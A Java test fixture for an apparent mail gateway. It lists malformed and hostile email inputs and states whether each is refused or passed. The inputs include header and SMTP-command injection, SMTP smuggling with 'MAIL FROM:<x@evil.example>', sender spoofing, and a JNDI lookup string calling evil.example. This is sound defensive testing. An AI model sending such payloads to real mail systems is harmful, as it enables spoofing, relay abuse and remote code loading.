package org.mailchute.gateway;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/**
 * A hostile or broken {@code .eml} file, and what must become of it.
 *
 * @param what it tries
 * @param end beginning of a reason, or a text that the message received must hold
 */
record HostileMail(String what, byte[] content, boolean sent, String end) {
    private static final String FROM = "From: app@contoso.example\r\n";
    private static final String TO = "To: anna@contoso.example\r\n";
    private static final String BODY = "\r\nhello\r\n";

    String file() {
        return what.toLowerCase(Locale.ROOT).replaceAll("[^a-z0-9]+", "-");
    }

    @Override
    public String toString() {
        return what;
    }

    private static HostileMail refused(String what, String message, String reason) {
        return new HostileMail(what, message.getBytes(StandardCharsets.ISO_8859_1), false, reason);
    }

    /** It gets a field by which the mail that arrives is known; its line end is the message's own. */
    private static HostileMail sent(String what, String message, String holds) {
        String end = message.contains("\r\n") ? "\r\n" : message.contains("\n") ? "\n" : "\r";
        HostileMail plain = new HostileMail(what, new byte[0], true, holds);
        String named = message.replaceFirst("(?m)^To:", "X-Case: " + plain.file() + end + "To:");
        return new HostileMail(what, named.getBytes(StandardCharsets.ISO_8859_1), true, holds);
    }

    /** A field between a good From and a good To. */
    private static HostileMail refusedField(String what, String field, String reason) {
        return refused(what, FROM + field + "\r\n" + TO + BODY, reason);
    }

    private static HostileMail sentField(String what, String field, String holds) {
        return sent(what, FROM + field + "\r\n" + TO + BODY, holds);
    }

    static List<HostileMail> all() {
        List<HostileMail> all = new ArrayList<>();
        all.addAll(frames());
        all.addAll(fields());
        all.addAll(envelopes());
        all.addAll(authors());
        all.addAll(bodies());
        return all;
    }

    /** Where header and body begin and end. */
    private static List<HostileMail> frames() {
        return List.of(
                refused("one octet", "x", "the message ends within its header"),
                refused("only line ends", "\r\n\r\n\r\n", "the message has no header"),
                refused("body without header", "\r\nhello\r\n", "the message has no header"),
                refused("header without end", FROM + TO, "the message ends within its header"),
                refused("header cut within a name", FROM + "To", "the message ends within its header"),
                refused("header cut within a value", FROM + "To: anna@con", "the message ends within its header"),
                refused("endless header line", FROM + "X-A: " + "a".repeat(70_000), "the header is too large"),
                refused("endless header", FROM + "X-A: a\r\n".repeat(10_000) + BODY, "the header is too large"),
                refused(
                        "endless folding",
                        FROM + "X-A: a\r\n" + "  b\r\n".repeat(20_000) + BODY,
                        "the header is too large"),
                refused("binary", "MZ\u0090\0\3\0\0\0\4\r\n\r\n" + FROM, "line 1 of the header is no header field"),
                refused("utf 16", "\u00ff\u00feF\0r\0o\0m\0:\0", "the message is a text in UTF-16"),
                refused("html", "<html>\r\n<body>\r\n" + FROM + BODY, "line 1 of the header is no header field"),
                refused(
                        "text line in the header",
                        FROM + "hello there\r\n" + TO + BODY,
                        "line 2 of the header is no header field"),
                refused(
                        "field without a name",
                        FROM + ": value\r\n" + TO + BODY,
                        "line 2 of the header is no header field"),
                refused(
                        "field name in umlauts",
                        FROM + "Gr\u00fc\u00dfe: x\r\n" + TO + BODY,
                        "line 2 of the header is no header field"),
                refused(
                        "folded before any field",
                        " folded\r\n" + FROM + TO + BODY,
                        "line 1 of the header is no header field"),
                refused("zip", "PK\3\4\n\0\0\0\0\r\n\r\n", "line 1 of the header is no header field"),
                sent("byte order mark", "\u00ef\u00bb\u00bf" + FROM + TO + BODY, "From: app@contoso.example"),
                sent("mbox line", "From app@contoso.example Mon Nov 23 10:00:00 2026\r\n" + FROM + TO + BODY, "hello"),
                sent("bare line feeds", (FROM + TO + BODY).replace("\r", ""), "To: anna@contoso.example\r\n"),
                sent("bare carriage returns", (FROM + TO + BODY).replace("\n", ""), "To: anna@contoso.example\r\n"),
                sent(
                        "mixed line ends",
                        FROM + "Subject: a\rX-One: b\nX-Two: c\r\n" + TO + BODY,
                        "X-One: b\r\nX-Two: c\r\n"),
                sent("a line of blanks in the header", FROM + "Subject: a\r\n \t \r\n" + TO + BODY, "To: anna"),
                sent("blanks before the colon", FROM + "Subject : a\r\n" + TO + BODY, "Subject: a\r\n"),
                sent("no body", FROM + TO + "\r\n", "MIME-Version: 1.0\r\n\r\n"));
    }

    private static List<HostileMail> fields() {
        return List.of(
                refusedField("nul in the header", "Subject: a\0b", "header field Subject holds a control character"),
                refusedField(
                        "escape in the header", "Subject: \u001b]0;evil\u0007", "header field Subject holds a control"),
                refusedField("delete in the header", "X-A: a\u007fb", "header field X-A holds a control character"),
                refusedField(
                        "vertical tab",
                        "X-A: a\u000bBcc: x@evil.example",
                        "header field X-A holds a control character"),
                refusedField("quoted control", "Cc: \"a\\\0b\" <x@contoso.example>", "header field Cc holds a control"),
                refusedField(
                        "token of 2000", "X-A: " + "a".repeat(2_000), "header field X-A has a line of more than 998"),
                refusedField(
                        "two content types",
                        "Content-Type: text/plain\r\nContent-Type: text/html",
                        "header field content-type comes twice"),
                refusedField(
                        "two transfer encodings",
                        "Content-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: 7bit",
                        "header field content-transfer-encoding comes twice"),
                refusedField(
                        "two reply-to",
                        "Reply-To: a@contoso.example\r\nReply-To: b@evil.example",
                        "header field reply-to comes twice"),
                refusedField(
                        "a loop",
                        "Received: from a by b\r\n".repeat(60).strip(),
                        "the message has passed more than 50 servers"),
                sentField("a long line with blanks", "X-A: " + "a b ".repeat(500), "X-A: a b a b"),
                sentField(
                        "encoded line end in the subject",
                        "Subject: =?utf-8?q?a=0D=0ABcc:_x=40evil.example?=",
                        "Subject: =?utf-8?q?a=0D"),
                sentField(
                        "unknown charset in the subject",
                        "Subject: =?x-klingon?q?abc?=",
                        "Subject: =?x-klingon?q?abc?="),
                sentField("encoded word without an end", "Subject: =?utf-8?b?AAAA", "Subject: =?utf-8?b?AAAA"),
                sentField("broken base64 in the subject", "Subject: =?utf-8?b?%%%?=", "Subject: =?utf-8?b?%%%?="),
                sentField("latin-1 in the subject", "Subject: Gr\u00fc\u00dfe", "Subject: =?UTF-8?B?R3LDvMOfZQ==?="),
                sentField("broken utf-8 in the subject", "Subject: \u00c3\u0028", "Subject: =?UTF-8?B?"),
                sentField(
                        "umlaut in a content type",
                        "Content-Type: text/plain; name=\"\u00fc.txt\"",
                        "Content-Type: text/plain;\r\n name=\"=?UTF-8?B?w7wudHh0?=\""),
                sentField("umlaut in an own field", "X-A: \u00fc", "X-A: =?UTF-8?B?w7w=?="),
                sentField("a date of yesterday", "Date: yesterday", "\r\nDate: "),
                sentField("a date beyond all years", "Date: Mon, 99 Foo 99999 99:99:99 +9999", "\r\nDate: "),
                sentField(
                        "two dates",
                        "Date: Mon, 23 Nov 2026 10:00:00 +0000\r\nDate: x",
                        "Date: Mon, 23 Nov 2026 10:00:00 +0000\r\n"),
                sentField("a message id that is none", "Message-ID: ><", "@gateway.contoso.example>"),
                sentField("a message id with a blank", "Message-ID: <a b@c>", "@gateway.contoso.example>"),
                sentField("no value at all", "Subject:", "Subject:\r\n"),
                sentField("version that is none", "MIME-Version: 9", "MIME-Version: 9"),
                sentField("type that is none", "Content-Type: ;;;=", "Content-Type: ;;;="),
                sentField("multipart without its boundary", "Content-Type: multipart/mixed; boundary=x", "boundary=x"),
                sentField(
                        "format strings",
                        "Subject: %s%n${jndi:ldap://evil.example/a}{{x}}",
                        "${jndi:ldap://evil.example/a}"));
    }

    private static List<HostileMail> envelopes() {
        return List.of(
                refused("no recipient", FROM + BODY, "the message names no recipient"),
                refused("no sender", TO + BODY, "the message names no sender"),
                refused(
                        "only an empty group",
                        FROM + "To: undisclosed-recipients:;\r\n" + BODY,
                        "the message names no recipient"),
                refusedField("no address in cc", "Cc: Anna", "header field Cc has a name and no address"),
                refusedField("quoted local part", "Cc: \"a b\"@contoso.example", "header field Cc: not a mail address"),
                refusedField("address literal", "Cc: a@[127.0.0.1]", "header field Cc: "),
                sentField("source route", "Cc: <@evil.example:anna@contoso.example>", "Cc: anna@contoso.example\r\n"),
                refusedField(
                        "percent hack across domains",
                        "Cc: a%evil.example@elsewhere.example",
                        "header field Cc: not a mail address: a % or ! before the @ is a route"),
                refusedField(
                        "line end in an address",
                        "Cc: <a@contoso.example\r\n RCPT TO:<x@evil.example>>",
                        "header field Cc: "),
                refusedField("angles without an end", "Cc: <a@contoso.example", "header field Cc: "),
                sentField(
                        "quote without an end",
                        "Cc: \"Anna <anna@contoso.example>",
                        "Cc: \"\\\"Anna\" <anna@contoso.example>"),
                refusedField("comment without an end", "Cc: (Anna a@contoso.example", "header field Cc: "),
                refusedField("group without an end", "Cc: Team: a@contoso.example", "header field Cc: "),
                refusedField("unicode address", "Cc: j\u00f6rg@contoso.example", "header field Cc: "),
                refusedField(
                        "a hundred and more",
                        "Cc: a@contoso.example,\r\n b@contoso.example,\r\n " + many(100),
                        "103 recipients, intake drop takes 100"),
                refusedField("a foreign domain", "Cc: x@elsewhere.example", "nobody may send to x@elsewhere.example"),
                refusedField(
                        "x-receiver with a command",
                        "X-Receiver: a@contoso.example>\tRCPT TO:<x@evil.example",
                        "header field X-Receiver holds more"),
                refusedField(
                        "x-receiver twice in one",
                        "X-Receiver: a@contoso.example b@contoso.example",
                        "header field X-Receiver holds more"),
                refusedField("x-receiver empty", "X-Receiver:", "header field X-Receiver: not a mail address"),
                refusedField(
                        "x-sender of others",
                        "X-Sender: ceo@evil.example\r\nX-Receiver: anna@contoso.example",
                        "ceo@evil.example may not send by intake drop"),
                refusedField(
                        "x-sender twice",
                        "X-Sender: app@contoso.example\r\nX-Sender: app@contoso.example",
                        "X-Sender comes twice"),
                sentField(
                        "x-sender null path",
                        "X-Sender: <>\r\nX-Receiver: anna@contoso.example",
                        "From: app@contoso.example"),
                sentField(
                        "parameters by the thousand",
                        "X-Receiver: anna@contoso.example" + " A=B".repeat(9_000),
                        "hello"),
                sentField(
                        "folded address",
                        "Cc: Anna\r\n Example\r\n\t<anna@contoso.example>",
                        "Cc: Anna\r\n Example\r\n\t<anna@contoso.example>"),
                sentField("comments and groups", "Cc: Team (all (of) them): anna@contoso.example (Anna);", "Cc: Team"),
                sentField(
                        "encoded word for an address",
                        "Cc: =?utf-8?q?x=40evil.example?= <anna@contoso.example>",
                        "Cc: =?utf-8?q?x=40evil.example?="),
                sentField(
                        "umlaut in a display name",
                        "Cc: J\u00f6rg <anna@contoso.example>",
                        "Cc: =?UTF-8?B?SsO2cmc=?= <anna@contoso.example>"),
                sentField(
                        "the same recipient again and again",
                        "Cc: " + "anna@contoso.example,\r\n ".repeat(300) + "anna@contoso.example",
                        "hello"));
    }

    private static String many(int number) {
        StringBuilder list = new StringBuilder("z@contoso.example");
        for (int i = 1; i < number; i++) {
            list.append(",\r\n u").append(i).append("@contoso.example");
        }
        return list.toString();
    }

    private static List<HostileMail> authors() {
        return List.of(
                refused(
                        "two from",
                        FROM + "From: ceo@contoso.example\r\n" + TO + BODY,
                        "header field from comes twice"),
                refused(
                        "two senders",
                        FROM + "Sender: a@contoso.example\r\nSender: b@contoso.example\r\n" + TO + BODY,
                        "header field sender comes twice"),
                refused(
                        "a second author of elsewhere",
                        "From: app@contoso.example, ceo@evil.example\r\n" + TO + BODY,
                        "ceo@evil.example may not send by intake drop"),
                refused(
                        "a sender of elsewhere",
                        FROM + "Sender: ceo@evil.example\r\n" + TO + BODY,
                        "ceo@evil.example may not send by intake drop"),
                refused(
                        "an author in a comment",
                        "From: (app@contoso.example) ceo@evil.example\r\n" + TO + BODY,
                        "ceo@evil.example may not send"),
                refused(
                        "an author in a display name",
                        "From: \"app@contoso.example\" <ceo@evil.example>\r\n" + TO + BODY,
                        "ceo@evil.example may not send"),
                refused("an author without address", "From: The Boss\r\n" + TO + BODY, "header field From has a name"),
                refused(
                        "an author with a nul",
                        "From: app@contoso.example\0@evil.example\r\n" + TO + BODY,
                        "header field From holds a control"),
                sent(
                        "the same from twice",
                        FROM + FROM + TO + BODY,
                        "From: app@contoso.example\r\nX-Case: the-same-from-twice\r\nTo: anna@contoso.example\r\nMessage-ID: "),
                sent(
                        "firewall off",
                        "X-CreatedBy: MSExchange15\r\n" + FROM + "X-MS-Exchange-Organization-AuthAs: Internal\r\n" + TO
                                + BODY,
                        FROM + "X-Case: firewall-off\r\n" + TO),
                sent(
                        "credentials",
                        FROM + "X-ServerAddress: evil.example\r\nX-AuthLogin: u\r\nX-AuthPassword: p\r\n" + TO + BODY,
                        FROM + "X-Case: credentials\r\n" + TO));
    }

    private static List<HostileMail> bodies() {
        String top = FROM + TO + "\r\n";
        return List.of(
                refused("nul in the body", top + "a\0b\r\n", "the body holds a NUL"),
                refused("nul at the end", top + "a\0", "the body holds a NUL"),
                sent(
                        "a lone dot",
                        top + ".\r\nMAIL FROM:<x@evil.example>\r\n",
                        "\r\n\r\n.\r\nMAIL FROM:<x@evil.example>\r\n"),
                sent(
                        "smuggling by bare line feeds",
                        top + "a\n.\nMAIL FROM:<x@evil.example>\n",
                        "a\r\n.\r\nMAIL FROM:"),
                sent("smuggling by bare returns", top + "a\r.\rMAIL FROM:<x@evil.example>\r", "a\r\n.\r\nMAIL FROM:"),
                sent("smuggling by a mixed end", top + "a\n.\r\nRSET\r\n", "a\r\n.\r\nRSET\r\n"),
                sent("dots only", top + ".\r\n..\r\n...\r\n", "\r\n\r\n.\r\n..\r\n...\r\n"),
                sent("a line of a megabyte", top + "z".repeat(1_000_000), "z\r\n z"),
                sent("all octets but nul", top + octets() + "\r\n", "=01=02=03"),
                sent("no last line end", top + "end", "end\r\n"));
    }

    private static String octets() {
        StringBuilder all = new StringBuilder();
        for (char octet = 1; octet < 256; octet++) {
            all.append(octet);
        }
        return all.toString();
    }
}
